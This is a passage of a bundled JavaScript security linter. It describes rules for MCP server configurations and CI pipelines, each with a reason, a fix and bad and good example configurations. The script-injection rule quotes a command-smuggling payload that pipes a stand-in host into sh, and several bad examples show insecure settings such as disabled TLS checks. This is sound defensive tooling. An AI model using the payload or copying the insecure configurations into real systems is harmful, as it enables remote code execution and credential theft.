    text: '{\n  "mcpServers": {\n    "wiki": {"command": "npx", "args": ["-y", "wiki-mcp@1.2.3"], "env": {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "wiki": {"command": "npx", "args": ["-y", "wiki-mcp@1.2.3"], "env": {"NODE_EXTRA_CA_CERTS": "certs/ca.pem"}}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/unbounded-filesystem.about.js
  const unbounded_filesystem_about_about = {
   summary: "MCP server reaches the whole disk by default and no limit is set",
   why: "Some servers take no folders as arguments: without a limit they read and write whatever their user can, and some run commands. Nothing in the configuration shows it, so it looks harmless in review.",
   fix: "Set the limit that the server knows (a flag or a variable, named in the finding), or run it in a container that has only the folder of the project.",
   securitySeverity: 7,
   references: [ "https://cwe.mitre.org/data/definitions/732.html" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "git": {"command": "uvx", "args": ["mcp-server-git==2026.1.14"]}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "git": {"command": "uvx", "args": ["mcp-server-git==2026.1.14", "--repository", "."]}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/unknown-config-key.about.js
  const unknown_config_key_about_about = {
   summary: "MCP servers stand under a key that the client does not read",
   why: "Clients use different keys for the same thing (`mcpServers`, `servers`, `mcp`, `context_servers`, `mcp_servers`) and most ignore the others in silence. The servers do not run, and a review looks at a configuration that is none.",
   fix: "Use the key that the finding names, or move the file to where the client of this key looks for it.",
   securitySeverity: 1,
   references: [ "https://code.visualstudio.com/docs/copilot/reference/mcp-configuration", "https://code.claude.com/docs/en/mcp" ],
   bad: {
    file: ".vscode/mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
   },
   good: {
    file: ".vscode/mcp.json",
    text: '{\n  "servers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/unpinned-server.about.js
  const unpinned_server_about_about = {
   summary: "MCP servers are fetched without an exact version",
   why: "Without an exact version `npx`, `uvx` and `docker run` fetch whatever the package's owner, or who has taken over the account, published last. The server runs with the rights and the credentials of anyone who starts it, and tools that were reviewed can change with the next start.",
   fix: "Name the version: `package@1.2.3` for npm, `package==1.2.3` for Python, `image@sha256:…` for containers, `…@<commit>` for repositories; let a bot raise it. In a CI job it is a warning, since the job holds secrets.",
   securitySeverity: 4,
   references: [ "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse", "https://docs.docker.com/dhi/core-concepts/digests/" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp"]}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/vulnerable-server.about.js
  const vulnerable_server_about_about = {
   summary: "MCP server has a known vulnerability or is archived",
   why: "Bridges and servers have had vulnerabilities by which a malicious server, page or document runs commands on the machine that starts them. The archived reference servers get no security updates at all, and are still what most examples on the web name.",
   fix: "Raise the version to the one that the finding names, or use the server of the vendor in place of the archived one.",
   securitySeverity: 7.5,
   references: [ "https://nvd.nist.gov/vuln/detail/CVE-2025-6514", "https://github.com/modelcontextprotocol/servers-archived" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"command": "npx", "args": ["-y", "mcp-remote@0.1.15", "https://mcp.example.com/mcp"]}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"command": "npx", "args": ["-y", "mcp-remote@0.1.38", "https://mcp.example.com/mcp"]}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/wrong-reference-syntax.about.js
  const wrong_reference_syntax_about_about = {
   summary: "A reference is written in the syntax of another MCP client",
   why: "Each client expands references in its own syntax and leaves all others as they are. `${API_KEY}` in the configuration of opencode is no reference: the server gets these ten characters as its key, fails to log in, and the next thing that people try is the key itself in clear. It also tells the server which secrets there are.",
   fix: "Write the reference as the client of this file reads it: `${NAME}` for Claude Code and Copilot CLI, `${env:NAME}` or `${input:name}` for VS Code, `${env:NAME}` for Cline and Roo Code, `{env:NAME}` for opencode, `$NAME` for Gemini CLI, `env_vars` or `bearer_token_env_var` for Codex. Where a vendor does not say what its client expands, the finding is only a note.",
   securitySeverity: 4.5,
   references: [ "https://code.claude.com/docs/en/mcp", "https://code.visualstudio.com/docs/copilot/reference/mcp-configuration", "https://opencode.ai/docs/config/#variables" ],
   bad: {
    file: "opencode.json",
    text: '{\n  "mcp": {\n    "search": {\n      "type": "remote",\n      "url": "https://mcp.example.com/mcp",\n      "headers": {"Authorization": "Bearer ${SEARCH_TOKEN}"}\n    }\n  }\n}\n'
   },
   good: {
    file: "opencode.json",
    text: '{\n  "mcp": {\n    "search": {\n      "type": "remote",\n      "url": "https://mcp.example.com/mcp",\n      "headers": {"Authorization": "Bearer {env:SEARCH_TOKEN}"}\n    }\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/about.js
  const mcp_about_abouts = {
   "auto-approved-tools": auto_approved_tools_about_about,
   "broad-filesystem": broad_filesystem_about_about,
   "config-printed": config_printed_about_about,
   "config-written-in-script": config_written_in_script_about_about,
   "credential-in-arguments": credential_in_arguments_about_about,
   "gateway-bypass": gateway_bypass_about_about,
   "host-mount": host_mount_about_about,
   "insecure-transport": insecure_transport_about_about,
   "root-filesystem": root_filesystem_about_about,
   "secrets-service-access": secrets_service_access_about_about,
   "shell-pipeline": shell_pipeline_about_about,
   "tls-verification-disabled": tls_verification_disabled_about_about,
   "unbounded-filesystem": unbounded_filesystem_about_about,
   "unknown-config-key": unknown_config_key_about_about,
   "unpinned-server": unpinned_server_about_about,
   "vulnerable-server": vulnerable_server_about_about,
   "wrong-reference-syntax": wrong_reference_syntax_about_about
  };
  var mcp = __webpack_require__(36308);
  // CONCATENATED MODULE: ./build/shared/lint/rules/pipelines/debug-logging-enabled.about.js
  const debug_logging_enabled_about_about = {
   summary: "Debug logging is switched on in the file",
   why: "Debug logs hold the inputs of steps, environment variables, request headers and responses. Masking covers the secrets that the runner knows, not those derived from them: a decoded key, a token that a tool fetched, a header that was put together. Anyone who can read the logs can read these.",
   fix: 'Remove the variable and switch debug logging on for the one run that needs it: "Re-run jobs" with debug logging on GitHub, "Enable system diagnostics" in Azure Pipelines.',
   securitySeverity: 4,
   references: [ "https://docs.github.com/en/actions/how-tos/monitor-workflows/enable-debug-logging", "https://learn.microsoft.com/en-us/azure/devops/pipelines/troubleshooting/review-logs" ],
   bad: {
    file: "azure-pipelines.yml",
    text: `trigger: [main]\nvariables:\n  system.debug: true\nsteps:\n  - script: npm test\n`
   },
   good: {
    file: "azure-pipelines.yml",
    text: `trigger: [main]\nsteps:\n  - script: npm test\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/pipelines/id-token-missing.about.js
  const id_token_missing_about_about = {
   summary: "Job uses OIDC without the permission id-token: write",
   why: 'Without `id-token: write` GitHub gives the job no OIDC token and the login fails with a message about `ACTIONS_ID_TOKEN_REQUEST_URL`. A `permissions` block sets every scope that it does not name to none, so a block with `contents: read` alone takes the permission away, and no default setting of a repository grants it. The failure is often "fixed" by putting a stored secret back.',
   fix: "Add `id-token: write` to the `permissions` of the job. Keep the other scopes that the job needs in the same block: a block of a job replaces that of the workflow.",
   securitySeverity: 4,
   references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions", "https://docs.github.com/en/actions/concepts/security/openid-connect" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n      id-token: write\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/pipelines/id-token-too-wide.about.js
  const id_token_too_wide_about_about = {
   summary: "id-token: write for the whole workflow while not every job uses it",
   why: "A permission of the workflow is given to all of its jobs. The job that runs the tests, and with it every dependency that those tests load, can then get the same cloud and gateway tokens as the job that deploys.",
   fix: "Remove `id-token: write` from the workflow and add it to the `permissions` of the jobs that use it. A block of a job replaces that of the workflow, so repeat the other scopes there.",
   securitySeverity: 5.5,
   references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions:\n  contents: read\n  id-token: write\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n  deploy:\n    needs: test\n    runs-on: ubuntu-latest\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n  deploy:\n    needs: test\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n      id-token: write\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/pipelines/id-token-untrusted.about.js
  const id_token_untrusted_about_about = {
   summary: "Job with id-token or secrets checks out untrusted code",
   why: "`pull_request_target`, `workflow_run` and `issue_comment` run with the rights of the base repository, also for a pull request from a fork. If such a job checks out the head of that pull request, the person who opened it decides what runs there: a build script, a test, a package hook, a configuration of a linter. With `id-token: write` it can take the identity that clouds and the MCP gateway trust; with a secret it has the secret.",
   fix: "Run untrusted code in a `pull_request` workflow without secrets, and hand its result to a privileged workflow as data. Where only the base is needed, drop `ref`. Where a person of the project has to decide, let the job wait for an environment with required reviewers.",
   securitySeverity: 9.3,
   references: [ "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/", "https://docs.github.com/en/actions/reference/security/secure-use" ],
   bad: {
    file: ".github/workflows/preview.yml",
    text: `on: pull_request_target\njobs:\n  preview:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n      id-token: write\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: npm ci\n`
   },
   good: {
    file: ".github/workflows/preview.yml",
    text: `on: pull_request\njobs:\n  preview:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n        with:\n          persist-credentials: false\n      - run: npm ci\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/pipelines/id-token-unused.about.js
  const id_token_unused_about_about = {
   summary: "Permission id-token: write that nothing uses",
   why: "With `id-token: write` any action, script or package that runs in the job can get a token for every cloud that trusts the repository. A permission left behind, or copied with a template, gives that away for nothing.",
   fix: "Remove `id-token: write`. Other entries of the block stay as they are.",
   securitySeverity: 2.5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-the-least-privilege" ],
   bad: {
    file: ".github/workflows/test.yml",
    text: `on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n      id-token: write\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n        with:\n          persist-credentials: false\n      - run: npm test\n`
   },
   good: {
    file: ".github/workflows/test.yml",
    text: `on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n        with:\n          persist-credentials: false\n      - run: npm test\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/pipelines/script-injection.about.js
  const script_injection_about_about = {
   summary: "Text that a stranger chooses is expanded into a script",
   why: 'An expression in a script is replaced before the shell starts. A title, a branch name or a commit message is whatever its author wrote: `"; curl evil.example | sh; #` in a title becomes commands of the job. They run with all that the job holds: its OIDC identity, its secrets, its service connection. Where it holds none of these it is a warning.',
   fix: 'Hand the value over in `env` and use the variable, quoted: `"$TITLE"`. The shell then takes it as one value, whatever it contains. In `actions/github-script` read `process.env` or `context.payload`.',
   securitySeverity: 9,
   references: [ "https://docs.github.com/en/actions/concepts/security/script-injections", "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs" ],
   bad: {
    file: ".github/workflows/greet.yml",
    text: `on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - run: ./deploy "\${{ github.event.issue.title }}"\n`
   },
   good: {
    file: ".github/workflows/greet.yml",
    text: `on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - env:\n          TITLE: \${{ github.event.issue.title }}\n        run: ./deploy "$TITLE"\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/pipelines/unpinned-action.about.js
  const unpinned_action_about_about = {
   summary: "Action, template or container by a mutable reference in a job with id-token or secrets",
   why: "A tag or a branch means whatever its owner, or anyone who took over the account, makes of it next. In March 2025 the tags of `tj-actions/changed-files` were moved to code that printed the secrets of 23,000 repositories. In a job with `id-token: write` or secrets such code gets the same identity as the job.",
   fix: "Use the full commit id and keep the version in a comment: `uses: owner/action@<40 hex digits> # v4.2.2`; Dependabot and Renovate update both. For images add the digest: `image@sha256:…`. For templates of other repositories set `ref` to a tag or a commit id. Owners and repositories that you trust can be named in `trusted-owners` of the configuration.",
   securitySeverity: 6.5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#using-third-party-actions", "https://learn.microsoft.com/en-us/azure/devops/pipelines/process/templates" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - uses: azure/login@v2\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/pipelines/write-all-permissions.about.js
  const write_all_permissions_about_about = {
   summary: "permissions: write-all",
   why: "`write-all` lets everything that runs in the job push code, publish packages and releases, change issues and deployments, and get an OIDC token for every cloud that trusts the repository. Whatever of it a compromised action or dependency can use, it will.",
   fix: "Name the scopes that the jobs need, at the job that needs them: `permissions: {}` at the workflow, and for instance `contents: read` and `id-token: write` at the job.",
   securitySeverity: 7,
   references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions" ],
   bad: {
    file: ".github/workflows/ci.yml",
    text: `on: push\npermissions: write-all\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n`
   },
   good: {
    file: ".github/workflows/ci.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/pipelines/about.js
  const pipelines_about_abouts = {
   "debug-logging-enabled": debug_logging_enabled_about_about,
   "id-token-missing": id_token_missing_about_about,
   "id-token-too-wide": id_token_too_wide_about_about,
   "id-token-untrusted": id_token_untrusted_about_about,
   "id-token-unused": id_token_unused_about_about,
   "script-injection": script_injection_about_about,
   "unpinned-action": unpinned_action_about_about,
   "write-all-permissions": write_all_permissions_about_about
  };
  var pipelines = __webpack_require__(69449);
  // CONCATENATED MODULE: ./build/shared/lint/rules/catalog.js
  const groups = [ {
   group: "artifacts",
   rules: artifacts.rules,
   abouts
  }, {
   group: "credentials",
   rules: credentials.rules,
   abouts: about_abouts
  }, {
   group: "federation",
   rules: federation.rules,
   abouts: federation_about_abouts
  }, {
   group: "governance",
   rules: governance.rules,
   abouts: governance_about_abouts
  }, {
   group: "house",
   rules: house.rules,
   abouts: house_about_abouts
  }, {
   group: "mcp",
   rules: mcp.rules,
   abouts: mcp_about_abouts
  }, {
   group: "pipelines",
   rules: pipelines.rules,
   abouts: pipelines_about_abouts
  } ];
  const byId = (a, b) => a.id < b.id ? -1 : 1;
  const rules = groups.flatMap(group => group.rules).sort(byId);
  const catalog = groups.flatMap(({group, rules, abouts}) => rules.map(({id, severity, confidence = "high"}) => ({
   id,
   group,
   severity,
   confidence,
   ...abouts[id]
  }))).sort(byId);
 }),
 92951: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.r(__webpack_exports__);
  __webpack_require__.d(__webpack_exports__, {
   rules: () => rules
  });
  var _invalid_ignore_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(55935);
  var _unreadable_file_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(92935);
  var _unused_ignore_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(84196);
  const rules = [ _invalid_ignore_js__WEBPACK_IMPORTED_MODULE_0__.C, _unreadable_file_js__WEBPACK_IMPORTED_MODULE_1__._, _unused_ignore_js__WEBPACK_IMPORTED_MODULE_2__.B ];
 })
};
